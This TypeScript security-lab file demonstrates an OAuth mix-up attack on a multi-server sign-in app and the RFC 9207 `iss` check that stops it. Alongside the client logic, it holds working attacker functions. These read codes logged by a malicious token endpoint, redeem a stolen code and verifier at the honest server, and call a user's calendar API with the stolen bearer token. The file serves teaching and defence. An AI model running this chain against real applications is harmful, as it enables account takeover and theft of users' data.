/**
 * Security lab: mix-up, with and without the `iss` check.
 *
 * "Trip Planner" is a single-page app that lets its users sign in with one of
 * several authorization servers. It is registered at each, and at each under
 * the same redirect URI. One of those servers is the attacker's.
 *
 * The user picks the attacker's server (or the attacker makes it look that
 * way). The app remembers that choice and sends the user there; the attacker's
 * server sends them straight on to the honest server, with the app's client_id
 * at the honest server in place of its own. The user signs in at the honest
 * server, which sends a code back to the app. The app, still believing it
 * talks to the attacker's server, posts the code to that server's token
 * endpoint, and the attacker redeems it at the honest server.
 *
 * PKCE does not help here: the attacker forwarded the app's own challenge, and
 * the app sends its verifier along with the code to the server it believes in.
 *
 * The defence is the `iss` parameter: the honest server names itself in the
 * authorization response, and an app that compares it with the server it sent
 * the user to stops before sending anything.
 *
 * @see RFC 9207 §2.4 (the client's check) and RFC 9700 §4.4 (mix-up attacks)
 */
import * as oauth from 'oauth4webapi';

/** A server the app offers on its sign-in screen: its issuer, and the client_id the app holds there. */
export interface ServerRegistration {
  name: string;
  issuer: string;
  clientId: string;
}

export interface LabConfig {
  /** The servers the user may pick from. */
  servers: ServerRegistration[];
  /** The one redirect URI the app registered at every server. */
  redirectUri: string;
  scope: string;
  /** Identifier of the API the access token is for (RFC 8707 `resource`). */
  audience: string;
  fetch?: (url: string, init: RequestInit) => Promise<Response>;
  /** Allow plain-HTTP requests to an authorization server on this machine only. */
  allowInsecureRequests?: boolean;
}

/** What the app keeps between sending the user away and their return: which server, and this sign-in's secrets. */
export interface SignInSession {
  server: ServerRegistration;
  state: string;
  codeVerifier: string;
}

/** What became of the code: the app stopped before sending it, or a token endpoint answered. */
export type RedeemOutcome =
  | {sent: false; error: string; code?: string}
  | {sent: true; tokens: oauth.TokenEndpointResponse}
  | {sent: true; status: number; error: string; error_description?: string};

function httpOptions(
  config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>,
): oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> {
  const options: oauth.HttpRequestOptions<string, oauth.ProtectedResourceRequestBody> = {};
  // oauth4webapi refuses http: URLs unless told otherwise (RFC 6749 §3.1 and §3.2 require TLS).
  if (config.allowInsecureRequests) options[oauth.allowInsecureRequests] = true;
  const customFetch = config.fetch;
  // oauth4webapi's request options are fetch()'s RequestInit in all but their TypeScript name.
  if (customFetch) options[oauth.customFetch] = (url, init) => customFetch(url, init as RequestInit);
  return options;
}

const client = (server: ServerRegistration): oauth.Client => ({
  client_id: server.clientId,
  token_endpoint_auth_method: 'none',
});

function refusal(error: oauth.ResponseBodyError): {
  sent: true;
  status: number;
  error: string;
  error_description?: string;
} {
  return {
    sent: true,
    status: error.status,
    error: error.error,
    ...(error.error_description ? {error_description: error.error_description} : {}),
  };
}

/** Fetches the metadata of the server the user picked (RFC 8414 §3); it must name that issuer. */
export async function discover(config: LabConfig, server: ServerRegistration): Promise<oauth.AuthorizationServer> {
  const issuer = new URL(server.issuer);
  return oauth.processDiscoveryResponse(issuer, await oauth.discoveryRequest(issuer, httpOptions(config)));
}

/**
 * Starts a sign-in at the server the user picked: `state` and a PKCE pair (RFC 6749 §10.12, RFC 7636
 * §4.1-4.3), the authorization request URL, and the session the app keeps until the user is back.
 */
export async function startSignIn(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  server: ServerRegistration,
): Promise<{session: SignInSession; url: URL}> {
  if (!as.authorization_endpoint) throw new Error('The authorization server metadata has no authorization_endpoint.');
  const state = oauth.generateRandomState();
  const codeVerifier = oauth.generateRandomCodeVerifier();
  const url = new URL(as.authorization_endpoint);
  url.searchParams.set('response_type', 'code');
  url.searchParams.set('client_id', server.clientId);
  url.searchParams.set('redirect_uri', config.redirectUri);
  url.searchParams.set('scope', config.scope);
  url.searchParams.set('resource', config.audience);
  url.searchParams.set('state', state);
  url.searchParams.set('code_challenge', await oauth.calculatePKCECodeChallenge(codeVerifier));
  url.searchParams.set('code_challenge_method', 'S256');
  return {session: {server, state, codeVerifier}, url};
}

/**
 * Handles the authorization response: checks it, then redeems the code at the token endpoint of the
 * server this sign-in was sent to (RFC 6749 §4.1.3, RFC 7636 §4.5). `as` is that server's metadata.
 *
 * With `checkIssuer`, oauth4webapi compares the response's `iss` with `as.issuer` and throws when
 * they differ (RFC 9207 §2.4): the app stops before sending the code anywhere. Without it, the app
 * behaves like one written before RFC 9207 and never reads `iss`.
 */
export async function redeemCode(
  as: oauth.AuthorizationServer,
  config: LabConfig,
  session: SignInSession,
  callbackUrl: URL | string,
  checkIssuer: boolean,
): Promise<RedeemOutcome> {
  const response = new URL(callbackUrl).searchParams;
  if (!checkIssuer) response.delete('iss');
  let parameters: URLSearchParams;
  try {
    parameters = oauth.validateAuthResponse(as, client(session.server), response, session.state);
  } catch (error) {
    if (!(error instanceof oauth.OperationProcessingError)) throw error;
    return {sent: false, error: error.message, ...(error.code ? {code: error.code} : {})};
  }
  const tokenResponse = await oauth.authorizationCodeGrantRequest(
    as,
    client(session.server),
    oauth.None(),
    parameters,
    config.redirectUri,
    session.codeVerifier,
    httpOptions(config),
  );
  try {
    return {
      sent: true,
      tokens: await oauth.processAuthorizationCodeResponse(as, client(session.server), tokenResponse),
    };
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    return refusal(error);
  }
}

/** One token request the attacker's token endpoint recorded. */
export interface ReceivedTokenRequest {
  received_at: string;
  client_id?: string;
  code: string;
  code_verifier?: string;
  redirect_uri?: string;
}

/** The attacker's side: what its token endpoint received, newest first. */
export async function readAttackerLog(
  attackerIssuer: string,
  config: Pick<LabConfig, 'fetch'>,
): Promise<ReceivedTokenRequest[]> {
  const url = `${attackerIssuer}/received`;
  const response = await (config.fetch ?? fetch)(url, {headers: {accept: 'application/json'}});
  if (!response.ok) throw new Error(`${url} answered ${response.status}`);
  return ((await response.json()) as {received: ReceivedTokenRequest[]}).received;
}

/**
 * The attacker redeems the code at the honest server, as the app would: the app's client_id there, the
 * shared redirect URI and the verifier the app sent along. The honest server sees nothing amiss.
 *
 * @see RFC 9700 §4.4.1 (the attacker uses the code), RFC 6749 §4.1.3, RFC 7636 §4.6
 */
export async function redeemStolenCode(
  honest: oauth.AuthorizationServer,
  config: LabConfig,
  honestClientId: string,
  stolen: ReceivedTokenRequest,
): Promise<RedeemOutcome> {
  const attacker: oauth.Client = {client_id: honestClientId, token_endpoint_auth_method: 'none'};
  const response = await oauth.genericTokenEndpointRequest(
    honest,
    attacker,
    oauth.None(),
    'authorization_code',
    {
      code: stolen.code,
      redirect_uri: stolen.redirect_uri ?? config.redirectUri,
      ...(stolen.code_verifier ? {code_verifier: stolen.code_verifier} : {}),
    },
    httpOptions(config),
  );
  try {
    return {sent: true, tokens: await oauth.processGenericTokenEndpointResponse(honest, attacker, response)};
  } catch (error) {
    if (!(error instanceof oauth.ResponseBodyError)) throw error;
    return refusal(error);
  }
}

/** The attacker uses the access token as a bearer token (RFC 6750 §2.1). */
export async function callApiWithStolenToken(
  url: string,
  accessToken: string,
  config: Pick<LabConfig, 'fetch' | 'allowInsecureRequests'>,
): Promise<{status: number; body: unknown}> {
  const response = await oauth.protectedResourceRequest(
    accessToken,
    'GET',
    new URL(url),
    new Headers({accept: 'application/json'}),
    null,
    httpOptions(config),
  );
  return {status: response.status, body: await response.json().catch(() => null)};
}

/** What the attacker got for its trouble: nothing from this sign-in, or the honest server's answer to the code it received. */
export type Theft =
  {stolen: false; received: number} | {stolen: true; outcome: RedeemOutcome; sub?: string; apiStatus?: number};

/**
 * The attacker's whole move: it reads what its token endpoint received, picks this sign-in's code (the
 * one in the app's callback), redeems it at the honest server and reads the calendar with the token.
 */
export async function useReceivedCode(
  config: LabConfig,
  honest: ServerRegistration,
  attackerIssuer: string,
  callbackUrl: URL | string,
  eventsUrl: string,
): Promise<Theft> {
  const received = await readAttackerLog(attackerIssuer, config);
  const code = new URL(callbackUrl).searchParams.get('code');
  const stolen = received.find((entry) => entry.code === code);
  if (!stolen) return {stolen: false, received: received.length};
  const outcome = await redeemStolenCode(await discover(config, honest), config, honest.clientId, stolen);
  if (!outcome.sent || !('tokens' in outcome)) return {stolen: true, outcome};
  const api = await callApiWithStolenToken(eventsUrl, outcome.tokens.access_token, config);
  // The calendar API names the user whose token it was given.
  const sub = (api.body as {caller?: {sub?: string}} | null)?.caller?.sub;
  return {stolen: true, outcome, apiStatus: api.status, ...(sub ? {sub} : {})};
}
